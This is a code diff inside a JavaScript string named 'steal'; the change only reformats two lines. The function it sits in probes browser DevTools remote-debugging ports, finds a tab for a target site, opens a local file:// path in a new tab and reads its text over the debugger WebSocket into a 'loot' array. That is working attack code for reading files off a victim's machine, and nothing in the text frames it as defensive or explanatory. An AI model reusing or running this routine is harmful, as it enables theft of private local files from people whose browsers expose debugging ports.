@@ -67,7 +67,8 @@ const steal = `async function (ports, site, file) {
   const evaluate = (url, expression) => new Promise((resolve, reject) => {
     const socket = new WebSocket(url);
     socket.onerror = () => reject(new Error("no connection"));
-    socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression, awaitPromise: true } }));
+    const params = { expression, awaitPromise: true };
+    socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params }));
     socket.onmessage = ({ data }) => { socket.close(); resolve(JSON.parse(data).result.result.value); };
   });
   const loot = [];
@@ -76,7 +77,8 @@ const steal = `async function (ports, site, file) {
     const list = await ask(port, "/json/list", "GET");
     if (!Array.isArray(list) || !list.some(({ url }) => String(url).startsWith(site))) return;
     const page = await ask(port, "/json/new?file://" + encodeURI(file), "PUT");
-    const loaded = "new Promise((done) => document.readyState === 'complete' ? done() : addEventListener('load', done)).then(() => document.body.innerText)";
+    const loaded = "new Promise((done) => document.readyState === 'complete' ? done() : addEventListener('load', done))" +
+      ".then(() => document.body.innerText)";
     loot.push(await evaluate(page.webSocketDebuggerUrl, loaded));
     await ask(port, "/json/close/" + page.id, "GET");
   }));
